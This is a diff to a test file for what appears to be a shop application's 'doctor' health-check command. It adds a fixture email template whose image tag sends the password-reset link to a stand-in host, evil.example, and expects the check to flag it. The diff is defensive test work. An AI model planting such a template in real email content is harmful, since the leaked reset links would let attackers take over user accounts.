@@ -64,6 +64,10 @@ test('all problems are found at once', async () => {
   await createAccount(shop)
   await shop.db.transaction((tx) => tx.update(tx.t.users).set({ password: 'plain' }))
   await shop.db.transaction((tx) => tx.insert(tx.t.products).values(productRow('mug', { inStock: true })))
+  const leak = { subject: 'Reset', body: '<p>{{reset_link}} <img src="https://evil.example/{{reset_link}}"></p>', updatedAt: 1 }
+  await shop.db.transaction((tx) =>
+    tx.insert(tx.t.emailTemplates).values({ typeId: 17, slug: 'reset_password', language: 'en', name: 'Reset password', ...leak }),
+  )
   await closeShop(shop)
   for (const name of readdirSync(join(healthyEnvironment.DATA_DIR, 'media'))) rmSync(join(healthyEnvironment.DATA_DIR, 'media', name))
   const { code, out } = await runCli(['doctor'], env)
@@ -73,7 +77,8 @@ test('all problems are found at once', async () => {
   expect(out).toContain('✗ Product listing data is out of date for: 1')
   expect(out).toContain('✗ Accounts with an invalid password hash: 1')
   expect(out).toContain('✗ The mail server is not reachable')
-  expect(out).toContain('5 errors found.')
+  expect(out).toContain('✗ Texts of emails that break the rules, so the built-in text is sent: reset_password (en).')
+  expect(out).toContain('6 errors found.')
 })
 
 test.if(process.platform === 'linux')('a low limit of open files is pointed out, with a way to raise it', async () => {
